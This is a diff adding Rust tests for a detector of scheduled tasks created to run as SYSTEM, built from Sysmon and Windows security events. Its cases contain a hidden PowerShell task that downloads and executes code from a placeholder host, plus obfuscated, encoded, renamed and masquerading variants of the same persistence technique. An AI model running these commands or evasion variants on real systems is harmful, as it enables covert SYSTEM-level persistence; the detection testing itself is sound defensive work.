@@ -1,0 +1,246 @@
+//! Tables of cases: event fields in, verdict and task description out.
+
+use systemtask::allowlist::{Allowlist, Date};
+use systemtask::detect::{Field, FieldList, Verdict};
+use systemtask::engine::Engine;
+use systemtask::options::Mode;
+
+fn engine() -> Engine {
+    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/splunk_app/lookups/systemtask_allowlist.csv");
+    let allowlist = Allowlist::load(std::path::Path::new(path), Date { year: 2026, month: 11, day: 28 }).unwrap();
+    Engine { mode: Mode::Tag, allowlist: Some(allowlist), fields: Default::default() }
+}
+
+fn sysmon(command_line: &str, user: &str) -> FieldList {
+    let image = command_line.split_whitespace().next().unwrap_or("").trim_matches('"').to_string();
+    FieldList(vec![
+        (Field::EventCode, "1".into()),
+        (Field::CommandLine, command_line.into()),
+        (Field::Image, image),
+        (Field::ProcessUser, user.into()),
+        (Field::Computer, "WS1.corp.local".into()),
+    ])
+}
+
+fn verdict(event: &FieldList) -> Option<Verdict> {
+    engine().evaluate(event).map(|f| f.verdict)
+}
+
+const USER: &str = "CORP\\alice";
+const SYSTEM: &str = "NT AUTHORITY\\SYSTEM";
+
+#[test]
+fn command_lines() {
+    use Verdict::*;
+    let cases: &[(&str, &str, Option<Verdict>)] = &[
+        // The strategy's two validation commands.
+        (
+            r#"schtasks /create /tn test /tr "c:\windows\syswow64\WindowsPowerShell\v1.0\powershell.exe -WindowStyle hidden -NoLogo -NonInteractive -ep bypass -nop -c 'IEX ((new-object net.webclient).downloadstring(''http://x.x.x.x:8080/x'''))'" /sc onlogon /ru System"#,
+            USER,
+            Some(Alert),
+        ),
+        (r#"schtasks /create /tn "mysc" /tr C:\windows\system32\cmd.exe /sc ONLOGON /ru "System""#, USER, Some(Alert)),
+        // Every documented SYSTEM spelling, switch style and order.
+        (r#"schtasks /create /tn x /tr c:\x.exe /sc onstart /ru """#, USER, Some(Alert)),
+        (r#"schtasks /create /tn x /tr c:\x.exe /ru "NT AUTHORITY\SYSTEM""#, USER, Some(Alert)),
+        (r#"schtasks -create -ru SYSTEM -tn x -tr c:\x.exe"#, USER, Some(Alert)),
+        (r#"SCHTASKS /RU system /CREATE /TN x /TR c:\x.exe"#, USER, Some(Alert)),
+        (r#"schtasks /create /tn x /tr c:\x.exe /ru "SYS"TEM"#, USER, Some(Alert)),
+        (r#"schtasks /create /tn x /tr c:\x.exe /ru S-1-5-18"#, USER, Some(Alert)),
+        (r#"schtasks /create /tn x /tr c:\x.exe /ru "NT-AUTORITÄT\SYSTEM""#, USER, Some(Alert)),
+        (r#"schtasks /create /tn x /tr c:\x.exe /ru "AUTORITE NT\Système""#, USER, Some(Alert)),
+        (r#"schtasks /change /tn x /ru SYSTEM"#, USER, Some(Alert)),
+        (r#"schtasks.exe /change /tn \Microsoft\Windows\x /tr c:\evil.exe /ru """#, USER, Some(Alert)),
+        // cmd wrappers, carets, chains.
+        (r#"cmd.exe /c "schtasks /create /tn x /tr c:\x.exe /ru SYSTEM""#, USER, Some(Alert)),
+        (r#"cmd /c sch^tasks /cre^ate /tn x /tr c:\x.exe /r^u SYS^TEM"#, USER, Some(Alert)),
+        (r#"cmd /c echo hi & schtasks /create /tn x /tr c:\x.exe /ru system"#, USER, Some(Alert)),
+        (r#"cmd /c schtasks /create /tn x /tr "c:\x.exe /ru system""#, USER, Some(Benign)),
+        // Implicit SYSTEM: no /ru, run by SYSTEM.
+        (r#"schtasks /create /tn x /tr c:\x.exe /sc minute"#, SYSTEM, Some(Alert)),
+        (r#"schtasks /create /tn x /tr c:\x.exe /sc minute"#, "NT-AUTORITÄT\\SYSTEM", Some(Alert)),
+        (r#"schtasks /create /tn x /tr c:\x.exe /sc minute"#, USER, Some(Benign)),
+        (r#"schtasks /create /s fs02 /tn x /tr c:\x.exe"#, SYSTEM, Some(Benign)),
+        (r#"schtasks /create /xml c:\t.xml /tn x"#, USER, Some(Benign)),
+        (r#"schtasks /create /xml c:\t.xml /tn x /ru SYSTEM"#, USER, Some(Alert)),
+        // Words that contain "system" are not SYSTEM.
+        (
+            r#"schtasks /create /tn SystemCheck /tr C:\Windows\system32\cmd.exe /ru CORP\system_admin"#,
+            USER,
+            Some(Benign),
+        ),
+        (r#"schtasks /create /tn x /tr C:\Windows\system32\cmd.exe /ru svc_system"#, USER, Some(Benign)),
+        (r#"schtasks /create /tn x /tr c:\x.exe /ru CORP\system"#, USER, Some(Benign)),
+        (r#"schtasks /create /tn x /tr c:\x.exe /ru "NT AUTHORITY\NETWORK SERVICE""#, USER, Some(Benign)),
+        // Not a change: described, never an alert.
+        (r#"schtasks /delete /tn x /f"#, SYSTEM, Some(Benign)),
+        (r#"schtasks /query /fo list /v"#, SYSTEM, Some(Benign)),
+        (r#"schtasks /run /tn x /i"#, SYSTEM, Some(Benign)),
+        (r#"schtasks /end /tn x"#, SYSTEM, Some(Benign)),
+        // at.exe jobs run as SYSTEM.
+        (r#"at 13:20 /interactive cmd"#, USER, Some(Alert)),
+        (r#"at \\host 9:00pm /every:M c:\x.bat"#, USER, Some(Alert)),
+        (r#"at 3 /delete"#, USER, Some(Benign)),
+        (r#"at"#, USER, Some(Benign)),
+        // PowerShell.
+        (
+            r#"powershell.exe -c "Register-ScheduledTask -TaskName x -Action $a -Trigger $t -User 'NT AUTHORITY\SYSTEM'""#,
+            USER,
+            Some(Alert),
+        ),
+        (
+            r#"powershell.exe -c "$p = New-ScheduledTaskPrincipal -UserId SYSTEM -LogonType ServiceAccount; Register-ScheduledTask x -Action $a -Principal $p""#,
+            USER,
+            Some(Alert),
+        ),
+        (r#"powershell -c "Register-ScheduledTask -TaskName x -Action $a -User S-1-5-18""#, USER, Some(Alert)),
+        (r#"powershell -c "Register-ScheduledTask -TaskName x -Action $a -User CORP\bob""#, USER, Some(Benign)),
+        (
+            r#"powershell -c "$p = New-ScheduledTaskPrincipal -GroupId 'BUILTIN\Administrators' -RunLevel Highest; Register-ScheduledTask x -Principal $p""#,
+            USER,
+            Some(Benign),
+        ),
+        (r#"powershell -c "Unregister-ScheduledTask -TaskName x -Confirm:$false""#, USER, Some(Benign)),
+        // -EncodedCommand of: Register-ScheduledTask -TaskName x -User SYSTEM
+        (
+            "powershell -enc UgBlAGcAaQBzAHQAZQByAC0AUwBjAGgAZQBkAHUAbABlAGQAVABhAHMAawAgAC0AVABhAHMAawBOAGEAbQBlACAAeAAgAC0AVQBzAGUAcgAgAFMAWQBTAFQARQBNAA==",
+            USER,
+            Some(Alert),
+        ),
+        ("powershell -c \"schtasks /create /tn x /tr c:\\x.exe /ru SYSTEM\"", USER, Some(Alert)),
+        // Unrelated processes pass through.
+        (r#"C:\Windows\system32\notepad.exe C:\schtasks.txt"#, USER, None),
+        (r#"cmd /c dir"#, USER, None),
+    ];
+    for (line, user, want) in cases {
+        assert_eq!(verdict(&sysmon(line, user)), *want, "{line} (user {user})");
+    }
+}
+
+#[test]
+fn renamed_schtasks_is_recognized_by_original_file_name() {
+    let mut e = sysmon(r#"C:\Users\Public\svc.exe /create /tn x /tr c:\x.exe /ru SYSTEM"#, USER);
+    e.0.push((Field::OriginalFileName, "sctasks.exe".into()));
+    let f = engine().evaluate(&e).unwrap();
+    assert_eq!(f.verdict, Verdict::Alert);
+    assert!(f.task.indicators.contains(&"renamed_binary".to_string()), "{:?}", f.task.indicators);
+}
+
+#[test]
+fn security_4688_uses_the_subject_sid_for_implicit_system() {
+    let e = FieldList(vec![
+        (Field::EventCode, "4688".into()),
+        (Field::CommandLine, r#"schtasks /create /tn x /tr c:\x.exe"#.into()),
+        (Field::SubjectUserName, "WS1$".into()),
+        (Field::SubjectDomainName, "CORP".into()),
+        (Field::SubjectUserSid, "S-1-5-18".into()),
+    ]);
+    let f = engine().evaluate(&e).unwrap();
+    assert_eq!(f.verdict, Verdict::Alert);
+    assert_eq!(f.reasons[0], "created by SYSTEM without /ru");
+    assert_eq!(f.task.creator.as_deref(), Some("CORP\\WS1$"));
+}
+
+/// A 4698/4702 event; `command` may carry arguments after a `|`.
+fn task_event(code: &str, name: &str, command: &str, user_id: &str, creator: &str) -> FieldList {
+    let (command, arguments) = command.split_once('|').unwrap_or((command, ""));
+    let xml = format!(
+        r#"<?xml version="1.0" encoding="UTF-16"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo><URI>{name}</URI></RegistrationInfo><Principals><Principal id="Author"><UserId>{user_id}</UserId></Principal></Principals><Actions Context="Author"><Exec><Command>{command}</Command><Arguments>{arguments}</Arguments></Exec></Actions></Task>"#
+    );
+    let (domain, user) = creator.split_once('\\').unwrap();
+    FieldList(vec![
+        (Field::EventCode, code.into()),
+        (Field::TaskName, name.into()),
+        (if code == "4702" { Field::TaskContentNew } else { Field::TaskContent }, xml),
+        (Field::SubjectUserName, user.into()),
+        (Field::SubjectDomainName, domain.into()),
+        (Field::SubjectUserSid, if user.ends_with('$') { "S-1-5-18".into() } else { "S-1-5-21-1-2-3-1104".into() }),
+        (Field::Computer, "WS1.corp.local".into()),
+    ])
+}
+
+#[test]
+fn masquerading_tasks_stay_alerts() {
+    use Verdict::*;
+    let uso = r"\Microsoft\Windows\UpdateOrchestrator\Schedule Scan";
+    let cases: &[(&str, &str, &str, &str, Verdict)] = &[
+        // The genuine article is suppressed ...
+        (uso, r"%systemroot%\system32\usoclient.exe|StartScan", "S-1-5-18", r"CORP\WS1$", Suppressed),
+        (
+            r"\GoogleUpdateTaskMachineUA{A1B2}",
+            r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe|/ua /installsource scheduler",
+            "S-1-5-18",
+            r"CORP\admin",
+            Suppressed,
+        ),
+        // ... but not a Windows name running something elsewhere,
+        (uso, r"C:\Users\Public\usoclient.exe|StartScan", "S-1-5-18", r"CORP\WS1$", Alert),
+        (uso, r"C:\ProgramData\usoclient.exe", "S-1-5-18", r"CORP\WS1$", Alert),
+        (uso, r"%TEMP%\usoclient.exe", "S-1-5-18", r"CORP\WS1$", Alert),
+        (uso, r"C:\Windows\System32\cmd.exe", "S-1-5-18", r"CORP\WS1$", Alert),
+        (uso, r"C:\Windows\..\Users\Public\usoclient.exe", "S-1-5-18", r"CORP\WS1$", Alert),
+        // nor the real program updated by a user account (pinned to the machine account),
+        (uso, r"%systemroot%\system32\usoclient.exe|StartScan", "S-1-5-18", r"CORP\mallory", Alert),
+        // nor the real program with other arguments,
+        (uso, r"%systemroot%\system32\usoclient.exe|StartScan & calc.exe", "S-1-5-18", r"CORP\WS1$", Alert),
+        // nor vendor names with a foreign program.
+        (
+            r"\GoogleUpdateTaskMachineCore",
+            r"C:\ProgramData\Google\Update\GoogleUpdate.exe",
+            "S-1-5-18",
+            r"CORP\admin",
+            Alert,
+        ),
+        (
+            r"\MicrosoftEdgeUpdateTaskMachineUA",
+            r"C:\Program Files (x86)\Microsoft\EdgeUpdate\EdgeCoreUpdate.exe",
+            "S-1-5-18",
+            r"CORP\admin",
+            Alert,
+        ),
+        (
+            r"\Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager",
+            r"C:\Windows\system32\cmd.exe",
+            "S-1-5-18",
+            r"THESHIRE\pgustavo",
+            Alert,
+        ),
+    ];
+    for (name, command, user_id, creator, want) in cases {
+        let f = engine().evaluate(&task_event("4702", name, command, user_id, creator)).unwrap();
+        assert_eq!(f.verdict, *want, "{name} running {command} by {creator}");
+        if *want == Suppressed {
+            assert!(f.suppressed_by.is_some());
+        }
+    }
+}
+
+#[test]
+fn atomic_red_team_task_xml_without_system_principal_does_not_alert() {
+    for file in ["T1053_005_WMI.xml", "T1053_05_SCTASK_HIDDEN_ATTRIB.xml"] {
+        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/samples/atomic").join(file);
+        let bytes = std::fs::read(&path).unwrap();
+        let text = if bytes.starts_with(&[0xff, 0xfe]) {
+            let units: Vec<u16> = bytes[2..].chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
+            String::from_utf16(&units).unwrap()
+        } else {
+            String::from_utf8(bytes).unwrap()
+        };
+        let e = FieldList(vec![(Field::EventCode, "4698".into()), (Field::TaskContent, text)]);
+        let f = engine().evaluate(&e).unwrap();
+        assert_eq!(f.verdict, Verdict::Benign, "{file}: {:?}", f.reasons);
+    }
+}
+
+#[test]
+fn alert_fields_for_triage() {
+    let e = task_event("4698", r"\evil", r"C:\Users\Public\x.exe", "S-1-5-18", r"CORP\bob");
+    let f = engine().evaluate(&e).unwrap();
+    assert_eq!(f.verdict, Verdict::Alert);
+    assert_eq!(f.reasons, ["principal S-1-5-18", "task created"]);
+    assert_eq!(f.task.action, Some("created"));
+    assert_eq!(f.task.run_as.as_deref(), Some("S-1-5-18"));
+    assert_eq!(f.task.creator.as_deref(), Some(r"CORP\bob"));
+    assert_eq!(f.task.evidence, Some("task_xml"));
+    assert_eq!(f.task.indicators, ["user_writable_path"]);
+}
